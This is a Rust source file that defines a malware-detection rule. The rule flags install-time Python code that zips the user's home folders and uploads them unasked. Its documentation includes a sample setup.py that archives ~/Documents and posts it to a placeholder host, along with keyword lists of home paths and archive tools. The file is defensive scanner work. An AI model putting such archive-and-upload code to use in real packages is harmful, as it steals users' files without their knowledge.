//! ## What it detects
//!
//! Code that nobody called, which walks through a folder of the user, packs what it finds into an archive and sends a
//! file.
//!
//! ## Why it is bad
//!
//! Thieves take whole folders: documents, profiles of browsers, wallets. Packed, they look like no secret to anybody.
//!
//! ## Innocent lookalikes
//!
//! Backup and deployment tools do all of that when they are called, which doesn't count here.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os, zipfile, requests
//! home = os.path.expanduser('~')
//! with zipfile.ZipFile('/tmp/a.zip', 'w') as z:
//!     for folder, _, names in os.walk(home + '/Documents'):
//!         for name in names:
//!             z.write(os.path.join(folder, name))
//! requests.post('http://x.example.invalid/', files={'f': open('/tmp/a.zip', 'rb')})
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os, zipfile
//! with zipfile.ZipFile('dist/data.zip', 'w') as z:
//!     for folder, _, names in os.walk('data'):
//!         for name in names:
//!             z.write(os.path.join(folder, name))
//! ```

use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("archived-home"),
    title: "packs the user's folders and sends them",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.4,
    check,
};

const WALKS: [&str; 4] = ["os.walk(", ".rglob(", "make_archive(", "glob.glob("];
const PACKS: [&str; 4] = ["zipfile", "make_archive(", "tarfile", "py7zr"];
const HOMES: [&str; 8] =
    ["expanduser", "USERPROFILE", "APPDATA", "Path.home()", "/Users", "/home", "Documents", "Desktop"];

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let has = |marks: &[&str]| marks.iter().any(|mark| unit.text.contains(mark));
        let sends = unit.calls.iter().find(|call| {
            call.api == Some(Api::NetworkSend)
                && call.trigger.is_some_and(Trigger::is_unasked)
                && call.taint().has(Taint::FILE | Taint::WRITTEN)
        });
        if let Some(call) = sends
            && has(&WALKS)
            && has(&PACKS)
            && has(&HOMES)
        {
            hits.call(unit, call, format!("{} of a file, in code that packs the user's folders", call.callee));
        }
    }
}
